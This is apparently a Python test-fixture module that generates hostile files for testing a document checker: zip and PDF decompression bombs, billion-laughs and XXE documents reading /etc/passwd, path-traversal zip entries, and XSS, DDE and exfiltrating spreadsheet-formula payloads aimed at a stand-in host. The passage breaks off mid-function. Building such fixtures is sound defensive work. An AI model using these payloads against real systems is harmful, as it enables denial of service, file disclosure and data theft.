"""Generators for hostile and broken input files (issue 6).

Every file is built here, from nothing, by the tests that use it: no binary
fixtures in the repository. Each generator returns bytes and stays small and
fast — a "4 GB" zip bomb is a few MB written in well under a second,
because its deflate stream is one compressed chunk repeated.

The minimal .docx written here is a valid Word package (content types,
relationships, a main document part) with whatever body the case needs;
documents that must be checked by the real rules are built with
tests.fixtures.docbuilder instead.
"""

from __future__ import annotations

import hashlib
import io
import os
import random
import re
import shutil
import stat
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
OFFICE_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"

GiB = 1 << 30
MiB = 1 << 20


# --- a minimal Word package -----------------------------------------------------------------


def content_types(main_part: str = "/word/document.xml", main_type: str = DOCX_MAIN, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    ).encode()


def package_rels(target: str = "word/document.xml") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" Target="{target}"/></Relationships>'
    ).encode()


def document_xml(body: str | bytes, prolog: bytes = b"") -> bytes:
    """A w:document around `body` (XML text); `prolog` goes between the declaration and the root."""
    head = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + prolog
    body_bytes = body.encode() if isinstance(body, str) else body
    return head + f'<w:document xmlns:w="{W_NS}"><w:body>'.encode() + body_bytes + b"</w:body></w:document>"


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def zip_parts(parts: Iterable[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED, level: int = 1) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression, compresslevel=level) as archive:
        for name, data in parts:
            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def docx(body: str | bytes = "", *, prolog: bytes = b"", main_type: str = DOCX_MAIN,
         extra_parts: Sequence[tuple[str, bytes]] = (), document: bytes | None = None) -> bytes:
    """A valid .docx with the given body (or a whole document part), plus any extra zip entries."""
    parts = [
        ("[Content_Types].xml", content_types(main_type=main_type)),
        ("_rels/.rels", package_rels()),
        ("word/document.xml", document if document is not None else document_xml(body, prolog)),
        *extra_parts,
    ]
    return zip_parts(parts)


def plain_docx(*texts: str) -> bytes:
    return docx("".join(paragraph(t) for t in texts))


# --- broken and disguised files -----------------------------------------------------------


def random_bytes(size: int = 4096, seed: int = 6) -> bytes:
    return random.Random(seed).randbytes(size)


def truncated(data: bytes, keep: float = 0.6) -> bytes:
    """The first part of a file, as a copy interrupted half-way leaves it."""
    return data[: int(len(data) * keep)]


def zip_without_document() -> bytes:
    return zip_parts([("[Content_Types].xml", content_types()), ("_rels/.rels", package_rels()),
                      ("word/styles.xml", b"<styles/>")])


def plain_zip() -> bytes:
    """A zip of ordinary files, not an Office document at all."""
    return zip_parts([("anteckningar.txt", "Mötesanteckningar".encode()), ("bild.png", random_bytes(256))])


def docm() -> bytes:
    """A macro-enabled Word document (.docm) with its VBA project, renamed .docx."""
    return docx(paragraph("Makrodokument"), main_type=DOCM_MAIN,
                extra_parts=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + random_bytes(512))])


def xlsx() -> bytes:
    """A minimal Excel workbook, renamed .docx."""
    workbook = b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
    return zip_parts([
        ("[Content_Types].xml", content_types("/xl/workbook.xml", XLSX_MAIN)),
        ("_rels/.rels", package_rels("xl/workbook.xml")),
        ("xl/workbook.xml", workbook),
    ])


def traversal_entry() -> bytes:
    """A valid document with an extra entry whose name climbs out of any folder it were unpacked into."""
    return docx(paragraph("Ett vanligt stycke"), extra_parts=[("../../evil.txt", b"pwned"), ("/tmp/evil-absolut.txt", b"x")])


# --- OLE compound files: old .doc and password-protected documents ----------------------------

_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_END, _FREE, _FAT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def ole_file(stream_names: Sequence[str]) -> bytes:
    """A minimal compound file (version 3, 512-byte sectors) holding empty streams with these names.

    Enough for anything that lists the directory (which is all Målkoll
    needs to tell an old .doc from an encrypted .docx); the streams are empty.
    """
    entries = [_dir_entry("Root Entry", 5, child=1 if stream_names else _FREE)]
    for index, name in enumerate(stream_names, start=1):
        right = index + 1 if index < len(stream_names) else _FREE
        entries.append(_dir_entry(name, 2, right=right))
    while len(entries) % 4:
        entries.append(b"\x00" * 64 + struct.pack("<HBB3I", 0, 0, 0, _FREE, _FREE, _FREE) + b"\x00" * 48)
    dir_sectors = len(entries) // 4
    fat = [_FAT] + [sector + 1 if sector < dir_sectors else _END for sector in range(1, dir_sectors + 1)]
    fat_sector = struct.pack(f"<{128}I", *(fat + [_FREE] * (128 - len(fat))))
    header = (
        _OLE_MAGIC + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
        + struct.pack("<109I", 0, *([_FREE] * 108))
    )
    assert len(header) == 512
    return header + fat_sector + b"".join(entries)


def _dir_entry(name: str, kind: int, *, left: int = _FREE, right: int = _FREE, child: int = _FREE) -> bytes:
    encoded = name.encode("utf-16-le") + b"\x00\x00"
    return (
        encoded.ljust(64, b"\x00")
        + struct.pack("<HBB3I", len(encoded), kind, 1, left, right, child)
        + b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16
        + struct.pack("<IQ", _END, 0)
    )


def old_word_doc() -> bytes:
    """A Word 97–2003 binary document (.doc) as far as its directory goes."""
    return ole_file(["WordDocument", "1Table", "\x05SummaryInformation", "\x05DocumentSummaryInformation"])


def encrypted_docx() -> bytes:
    """A password-protected .docx: Office wraps the encrypted package in a compound file."""
    return ole_file(["\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"])


# --- XML attacks -----------------------------------------------------------------------------


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * 10}">' for i in range(1, 10)
    )
    return docx(paragraph("Inledning") + '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>',
                prolog=f"<!DOCTYPE w:document [{entities}]>".encode())


def external_entity(target: str = "/etc/passwd") -> bytes:
    return docx(paragraph("Inledning") + "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>",
                prolog=f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{target}">]>'.encode())


def external_dtd(target: str = "/etc/passwd") -> bytes:
    """A document type loaded from outside (the parser must not fetch it)."""
    return docx(paragraph("Inledning"), prolog=f'<!DOCTYPE w:document SYSTEM "file://{target}">'.encode())


def dtd_in_styles() -> bytes:
    """The entity attack moved to a part read later (the styles), not the main document."""
    styles = (b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
              b'<w:styles xmlns:w="' + W_NS.encode() + b'"><w:style w:styleId="A"><w:name w:val="&x;"/></w:style></w:styles>')
    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
            b'Target="styles.xml"/></Relationships>')
    body = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Text</w:t></w:r></w:p>'
    return docx(body, extra_parts=[("word/_rels/document.xml.rels", rels), ("word/styles.xml", styles)])


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The package `data` with part `name` replaced (or added)."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = [(info.filename, source.read(info)) for info in source.infolist() if info.filename != name]
    return zip_parts([*parts, (name, content)])


def with_dtd(part: bytes, encoding: str = "utf-8") -> bytes:
    """An XML part with an internal DTD whose entity the root's first child uses, in `encoding`
    (the declaration names it; Python's "utf-32"/"utf-16" add a byte order mark)."""
    text = part.decode("utf-8")
    if text.startswith("<?xml"):
        text = text[text.index("?>") + 2:].lstrip()
    root_end = text.index(">")
    root_name = text[1:root_end].split()[0]
    declaration = (f'<?xml version="1.0" encoding="{encoding.upper()}" standalone="yes"?>\n'
                   f'<!DOCTYPE {root_name} [<!ENTITY malkoll "ENTITET-EXPANDERAD">]>')
    return (declaration + text).encode(encoding)


def empty_paragraphs(count: int, *, headers: int = 0) -> bytes:
    """A body of `count` empty paragraphs (6 bytes of XML each, packing to almost nothing), and as many in
    each of `headers` (at most 3) header and footer parts the section refers to, which the reader reads:
    memory once parsed, with no size or ratio limit in the way."""
    paragraphs = b"<w:p/>" * count
    r_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = [("headerReference", "default", "hdr", "header1.xml"), ("headerReference", "first", "hdr", "header2.xml"),
             ("footerReference", "default", "ftr", "footer1.xml")][:headers]
    references = "".join(f'<w:{tag} w:type="{kind}" r:id="rIdH{n}"/>' for n, (tag, kind, _, _) in enumerate(kinds))
    section = f'<w:sectPr xmlns:r="{r_ns}">{references}</w:sectPr>'.encode() if kinds else b""
    rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rIdH{n}" Type="{r_ns}/{tag[:6]}" Target="{name}"/>'
                      for n, (tag, _, _, name) in enumerate(kinds)) + "</Relationships>").encode()
    parts = [(f"word/{name}", f'<w:{root} xmlns:w="{W_NS}">'.encode() + paragraphs + f"</w:{root}>".encode())
             for _, _, root, name in kinds]
    extra = [("word/_rels/document.xml.rels", rels), *parts] if kinds else []
    return docx(paragraphs + section, extra_parts=extra)


def deep_nesting(levels: int = 300) -> bytes:
    """Content controls nested deeper than any parser should follow."""
    inner = paragraph("djupt")
    return docx("<w:sdt><w:sdtContent>" * levels + inner + "</w:sdtContent></w:sdt>" * levels)


# --- absurd sizes ----------------------------------------------------------------------------

_WORDS = ("mål", "enheten", "resultat", "analys", "brukare", "trygghet", "arbetssätt", "uppföljning",
          "personal", "kvalitet", "nämnden", "indikator", "aktivitet", "året", "ökad", "delaktighet")


def many_paragraphs(count: int = 100_000) -> bytes:
    """`count` short paragraphs, written as XML text directly (python-docx would take minutes)."""
    body = "".join(f'<w:p><w:r><w:t>Stycke {i} om {_WORDS[i % len(_WORDS)]}.</w:t></w:r></w:p>' for i in range(count))
    return docx(body)


def long_text(chars: int, seed: int = 6) -> str:
    """Plausible words (so the text compresses like prose, not like a bomb)."""
    rng = random.Random(seed)
    words = rng.choices(_WORDS, k=chars // 7 + 1)
    return " ".join(words)[:chars]


def long_paragraph(chars: int = 10 * MiB, *, runs: int = 1) -> bytes:
    """One paragraph of `chars` characters, in one text node or split over `runs` runs."""
    text = escape(long_text(chars))
    step = -(-len(text) // runs)
    pieces = []
    start = 0
    while start < len(text):
        end = min(len(text), start + step)
        while end < len(text) and text[end - 1] != " ":  # never cut an &amp; in half
            end += 1
        pieces.append(f'<w:r><w:t xml:space="preserve">{text[start:end]}</w:t></w:r>')
        start = end
    return docx("<w:p>" + "".join(pieces) + "</w:p>")


def nested_tables(depth: int = 50) -> bytes:
    """A table in a cell of a table … `depth` levels down, with text at every level."""
    inner = paragraph("innerst")
    for level in range(depth, 0, -1):
        inner = f"<w:tbl><w:tr><w:tc>{paragraph(f'nivå {level}')}{inner}<w:p/></w:tc></w:tr></w:tbl>"
    return docx(paragraph("Tabeller i tabeller") + inner)


def many_entries(count: int) -> bytes:
    return zip_parts([("[Content_Types].xml", content_types()), ("_rels/.rels", package_rels()),
                      ("word/document.xml", document_xml(paragraph("x")))]
                     + [(f"word/media/bild{i}.bin", b"") for i in range(count)], compression=zipfile.ZIP_STORED)


# --- zip bombs, written without ever holding (or compressing) the big data -----------------------


@dataclass
class _RawEntry:
    name: str
    data: bytes  # as stored in the zip (compressed)
    crc: int
    size: int  # uncompressed
    method: int = zipfile.ZIP_DEFLATED


def _deflated(data: bytes) -> _RawEntry:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return _RawEntry("", compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data))


def _repeated_deflate(chunk: bytes, count: int, head: bytes = b"", tail: bytes = b"") -> _RawEntry:
    """head + chunk × count + tail, deflated, in time proportional to the output, not the input."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the compressor starts afresh, so every chunk compresses to the same bytes.
    assert compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH) == piece
    last = compressor.compress(tail) + compressor.flush()
    crc = _crc_repeated(zlib.crc32(head), chunk, count)
    crc = _crc32_combine(crc, zlib.crc32(tail), len(tail))
    return _RawEntry("", first + piece * count + last, crc, len(head) + len(chunk) * count + len(tail))


def _crc_repeated(crc: int, chunk: bytes, count: int) -> int:
    """CRC-32 of (data so far) + chunk × count, by doubling instead of hashing GBs."""
    block_crc, block_len = zlib.crc32(chunk), len(chunk)
    while count:
        if count & 1:
            crc = _crc32_combine(crc, block_crc, block_len)
        block_crc = _crc32_combine(block_crc, block_crc, block_len)
        block_len *= 2
        count >>= 1
    return crc


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, index = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector >>= 1
        index += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, row) for row in matrix]


def _crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine (the CRC of A+B from the CRCs of A and B), which Python does not expose."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def _raw_zip(entries: Sequence[_RawEntry], *, directory: Sequence[int] | None = None) -> bytes:
    """A zip (with ZIP64 records where sizes need them) from pre-compressed entries.

    `directory` lists, by index, the entries the central directory names; one
    entry named many times is the overlapping-files trick that makes a few KB
    claim GBs.
    """
    out = io.BytesIO()
    offsets: list[int] = []
    for entry in entries:
        offsets.append(out.tell())
        name = entry.name.encode()
        big = _needs_zip64(entry)
        extra = struct.pack("<HHQQ", 1, 16, entry.size, len(entry.data)) if big else b""
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(entry.data), entry.size)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if big else 20, 0, entry.method, 0, 0x5A21,
                              entry.crc, sizes[0], sizes[1], len(name), len(extra)) + name + extra)
        out.write(entry.data)
    directory_start = out.tell()
    named = range(len(entries)) if directory is None else directory
    for index in named:
        entry, name = entries[index], entries[index].name.encode()
        big = _needs_zip64(entry)
        extra = struct.pack("<HHQQQ", 1, 24, entry.size, len(entry.data), offsets[index]) if big else b""
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(entry.data), entry.size)
        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45 if big else 20, 0, entry.method, 0, 0x5A21,
                              entry.crc, sizes[0], sizes[1], len(name), len(extra), 0, 0, 0, 0,
                              0xFFFFFFFF if big else offsets[index]) + name + extra)
    directory_end = out.tell()
    count, size = len(named), directory_end - directory_start
    out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, directory_start))
    out.write(struct.pack("<IIQI", 0x07064B50, 0, directory_end, 1))
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
                          min(size, 0xFFFFFFFF), min(directory_start, 0xFFFFFFFF), 0))
    return out.getvalue()


def _needs_zip64(entry: _RawEntry) -> bool:
    return entry.size >= 0xFFFFFFFF or len(entry.data) >= 0xFFFFFFFF


def _named(name: str, entry: _RawEntry) -> _RawEntry:
    entry.name = name
    return entry


def zip_bomb(size: int = 4 * GiB) -> bytes:
    """A .docx whose word/document.xml is `size` bytes of spaces inside a valid document (~size/1000 on disk)."""
    head = document_xml(paragraph("Inledning"))
    split = head.index(b"</w:body>")
    document = _repeated_deflate(b" " * MiB, max(1, size // MiB), head[:split], head[split:])
    return _raw_zip([_named("[Content_Types].xml", _deflated(content_types())),
                     _named("_rels/.rels", _deflated(package_rels())),
                     _named("word/document.xml", document)])


def overlapping_bomb(copies: int = 200, each: int = 16 * MiB) -> bytes:
    """A few tens of KB whose directory lists `copies` entries sharing one compressed blob (GBs in total)."""
    entries = [
        _named("[Content_Types].xml", _deflated(content_types())),
        _named("_rels/.rels", _deflated(package_rels())),
        _named("word/document.xml", _deflated(document_xml(paragraph("Inledning")))),
        _named("word/media/bild.bin", _repeated_deflate(b"\x00" * MiB, each // MiB)),
    ]
    return _raw_zip(entries, directory=[0, 1, 2, *([3] * copies)])


# --- PDFs: written by hand (a PDF is text with byte offsets), or by reportlab where it encrypts -------

PDF_TEXT = "Enhetsmål: Alla brukare ska känna sig trygga i sitt eget hem"


def pdf_bytes(objects: Sequence[bytes], *, trailer: bytes = b"", xref: bool = True) -> bytes:
    """A PDF of `objects` (object 1 is the catalog), with a correct cross-reference table unless `xref` is False."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    if xref:
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
        out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start))
    return out.getvalue()


def pdf_stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def _text_operators(lines: Sequence[str]) -> bytes:
    shown = b"".join(b"(%s) Tj T* " % line.encode("cp1252").replace(b"(", b"\\(").replace(b")", b"\\)")
                     for line in lines)
    return b"BT /F1 11 Tf 14 TL 56 780 Td " + shown + b"ET"


def pdf_pages(contents: Sequence[bytes], *, media_box: bytes = b"[0 0 595 842]", page_extra: bytes = b"",
              catalog_extra: bytes = b"", extra_objects: Sequence[bytes] = ()) -> list[bytes]:
    """The objects of a PDF with one page per content stream (objects 1–2 catalog and pages, 3 the font,
    then page and content pairs, then `extra_objects`), for pdf_bytes."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * index) for index in range(len(contents)))
    objects = [b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
               b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, len(contents)),
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"]
    for index, content in enumerate(contents):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents %d 0 R %s"
                       b"/Resources << /Font << /F1 3 0 R >> /XObject << /Im1 %d 0 R >> >> >>"
                       % (media_box, 5 + 2 * index, page_extra, 4 + 2 * len(contents)))
        objects.append(content)
    objects.append(_scan_image())
    return [*objects, *extra_objects]


def text_pdf(*lines: str, pages: int = 1, **options: object) -> bytes:
    """An ordinary PDF with a text layer: `lines` on each of `pages` pages."""
    text = lines or (PDF_TEXT, "Förväntat resultat: brukarna upplever trygghet")
    return pdf_bytes(pdf_pages([pdf_stream(_text_operators(text))] * pages, **options))  # type: ignore[arg-type]


def _scan_image(width: int = 160, height: int = 226, seed: int = 17) -> bytes:
    """A grey "scanned page" image (noise on white, as a scanner's paper grain), packed with zlib."""
    rng = random.Random(seed)
    pixels = bytes(255 - rng.randrange(0, 40) for _ in range(width * height))
    return pdf_stream(zlib.compress(pixels), b"/Type /XObject /Subtype /Image /Width %d /Height %d "
                      b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode" % (width, height))


def scanned_pdf(pages: int = 3, *, text_pages: int = 0, stamp: str = "") -> bytes:
    """An image-only scan: each page one image and no text (a `stamp`, like a page number, is not a text layer);
    the first `text_pages` pages carry a text layer too (OCR of some pages only)."""
    contents = []
    for index in range(pages):
        operators = b"q 595 0 0 842 0 0 cm /Im1 Do Q "
        if index < text_pages:
            operators += _text_operators([PDF_TEXT] * 3)
        elif stamp:
            operators += b"BT /F1 9 Tf 500 30 Td (%s) Tj ET" % stamp.encode("cp1252")
        contents.append(pdf_stream(operators))
    return pdf_bytes(pdf_pages(contents))


def blank_pdf(pages: int = 2) -> bytes:
    """Pages with nothing on them."""
    return pdf_bytes(pdf_pages([pdf_stream(b"")] * pages))


def encrypted_pdf(user_password: str = "hemligt", owner_password: str = "agare") -> bytes:
    """A PDF encrypted by reportlab (RC4, 128 bits); with an empty user password it opens without one and
    only the owner password guards printing and copying."""
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    encryption = pdfencrypt.StandardEncryption(user_password, owner_password, canPrint=0, canCopy=0, strength=128)
    page = canvas.Canvas(buffer, encrypt=encryption)
    page.drawString(56, 780, PDF_TEXT)
    page.drawString(56, 760, "Förväntat resultat: brukarna upplever trygghet")
    page.showPage()
    page.save()
    return buffer.getvalue()


def broken_xref_pdf() -> bytes:
    """A PDF whose cross-reference table points at the wrong bytes (every offset off by 7), as a
    careless edit leaves it: PDFium rebuilds the table from the objects themselves."""
    data = text_pdf()
    start = data.rindex(b"xref\n")
    table = re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m.group(1)) + 7), data[start:])
    return data[:start] + table


def no_xref_pdf() -> bytes:
    """A PDF without a cross-reference table at all (startxref points nowhere): rebuilt by PDFium too."""
    return text_pdf().replace(b"startxref\n", b"startxref\n9")


def unrepairable_pdf() -> bytes:
    """A PDF header followed by nothing a PDF reader could rebuild a document from."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random_bytes(4096, seed=17) + b"\n%%EOF\n"


def pdf_bomb(size: int = 4 * GiB, *, twice: bool = False, image: bool = False) -> bytes:
    """A one-page PDF whose content stream (or, with `image`, a 10×10 image) unpacks to `size` bytes of spaces:
    ~size/1000 on disk, or a few KB when `twice` packed."""
    compressor = zlib.compressobj(9)
    first = compressor.compress(_text_operators([PDF_TEXT]) + b"\n") + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(b" " * MiB) + compressor.flush(zlib.Z_FULL_FLUSH)
    packed = first + piece * max(1, size // MiB) + compressor.flush()
    filters = b"/Filter /FlateDecode"
    if twice:
        packed, filters = zlib.compress(packed, 9), b"/Filter [/FlateDecode /Fl#61teDecode]"
    if image:
        bomb = pdf_stream(packed, b"/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray "
                                  b"/BitsPerComponent 8 " + filters)
        objects = pdf_pages([pdf_stream(_text_operators([PDF_TEXT] * 3))])
        objects[-1] = bomb  # the page's image
        return pdf_bytes(objects)
    return pdf_bytes(pdf_pages([pdf_stream(packed, filters)]))


def disguised_bomb(size: int = GiB) -> bytes:
    """pdf_bomb packed twice, its dictionary written to be misread by a pattern: the filter key escaped
    ("/Fil#74er"), a comment where a space would do, and "1 0 obj" in a string. PDFium reads it as usual."""
    data = pdf_bomb(size, twice=True)
    start = data.index(b"/Filter [/FlateDecode /Fl#61teDecode]")
    return (data[:start] + b"/Fil#74er%kommentar\n[/FlateDecode /FlateDecode] /Titel (1 0 obj)"
            + data[start + len(b"/Filter [/FlateDecode /Fl#61teDecode]"):])


def lzw_spaces(cycles: int) -> bytes:
    """LZW data (9–12 bit codes, as PDF has them) for a run of spaces: each code one space longer than the one
    before, the table cleared when full; ~7 MB of spaces per ~5 KB cycle, written without unpacking anything."""
    cycle = []
    width, added, code = 9, 258, 32
    while True:
        cycle.append(format(code, f"0{width}b"))
        added += 1
        if added + 1 > (1 << width) and width < 12:
            width += 1
        if added >= 4095:
            cycle.append(format(256, f"0{width}b"))
            break
        code = added - 1
    bits = format(256, "09b") + "".join(cycle) * cycles + format(257, "09b")
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def lzw_bomb(size: int = GiB) -> bytes:
    """A page whose second content stream is `size` bytes of spaces packed with LZW (~size/1360 on disk)."""
    objects = pdf_pages([pdf_stream(_text_operators([PDF_TEXT] * 3))])
    objects[3] = objects[3].replace(b"/Contents 5 0 R", b"/Contents [5 0 R 7 0 R]")
    objects.append(pdf_stream(lzw_spaces(max(1, size // 7_363_203)), b"/Filter /LZWDecode"))
    return pdf_bytes(objects)


def run_length_spaces_pdf(size: int = 2 * MiB) -> bytes:
    """A page whose second content stream is `size` bytes of spaces packed with RunLength (64 times smaller)."""
    objects = pdf_pages([pdf_stream(_text_operators([PDF_TEXT] * 3))])
    objects[3] = objects[3].replace(b"/Contents 5 0 R", b"/Contents [5 0 R 7 0 R]")
    objects.append(pdf_stream(bytes([129, 32]) * (size // 128) + bytes([128]), b"/Filter /RunLengthDecode"))
    return pdf_bytes(objects)


def many_pages_pdf(pages: int = 1_000_000) -> bytes:
    """A few KB claiming `pages` pages: a page tree whose every branch names one page a thousand times."""
    per = 1000
    objects = pdf_pages([pdf_stream(_text_operators([PDF_TEXT]))])
    branch = len(objects) + 1
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join([b"%d 0 R" % branch] * (pages // per)), pages)
    objects.append(b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (b" ".join([b"4 0 R"] * per), per))
    return pdf_bytes(objects)


def huge_page_pdf(side: int = 10_000_000) -> bytes:
    """A page `side` points square (3,5 km)."""
    return text_pdf(media_box=b"[0 0 %d %d]" % (side, side))


def many_objects_pdf(claimed: int = 50_000_000) -> bytes:
    """A small PDF whose trailer and an object stream claim `claimed` objects."""
    numbers = zlib.compress(b"0 0 " * 16)
    object_stream = pdf_stream(numbers, b"/Type /ObjStm /N %d /First 64 /Filter /FlateDecode" % claimed)
    return pdf_bytes(pdf_pages([pdf_stream(_text_operators([PDF_TEXT] * 3))], extra_objects=[object_stream]),
                     trailer=b"/Size %d " % claimed)


def deeply_nested_pdf(levels: int = 100_000) -> bytes:
    """Arrays nested `levels` deep in the catalog and in the page dictionary; the text itself is ordinary."""
    deep = b"[" * levels + b"]" * levels
    return text_pdf(catalog_extra=b"/Malkoll " + deep + b" ", page_extra=b"/Malkoll " + deep + b" ")


def pdf_inside_a_zip() -> bytes:
    """A Word document whose first zip entry, stored unpacked, is a whole PDF: its header stands within the
    file's first KB, where PDF readers look for it, while Word opens the zip."""
    entries = [("x.pdf", text_pdf())] + [(name, data) for name, data in _docx_parts(paragraph("Word visar detta"))]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if name == "x.pdf" else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def pdf_with_a_zip_appended() -> bytes:
    """A PDF with a Word document appended: a PDF reader reads the PDF, a zip reader finds the zip's end record."""
    return text_pdf() + plain_docx("Word visar detta")


def _docx_parts(body: str) -> list[tuple[str, bytes]]:
    return [("[Content_Types].xml", content_types()), ("_rels/.rels", package_rels()),
            ("word/document.xml", document_xml(body))]


def docx_named_pdf() -> bytes:
    """A Word document saved under a .pdf name (it is read as the Word document it is)."""
    return plain_docx(PDF_TEXT)


# --- content that attacks the outputs -----------------------------------------------------------

SCRIPT = "<script>alert('xss')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.invalid/?q="&A1,"Klicka här")'
DDE = "+cmd|' /C calc'!A0"
ESCAPES = "\x1b[2J\x1b[31mröd\x1b[0m\x1b]8;;http://evil.invalid\x07länk\x1b]8;;\x07"
RTL = "avgift\u202egnp.exe\u202c"


def word_lock_file(user: str = "Anna Andersson") -> bytes:
    """What Word leaves beside an open document as "~$name.docx": 162 bytes naming who has it open."""
    ascii_name = user.encode("ascii", "replace")[:53]
    wide = user.encode("utf-16-le")[:108]
    return (bytes([len(ascii_name)]) + ascii_name.ljust(53, b" ") + bytes([len(user)]) + b"\x00"
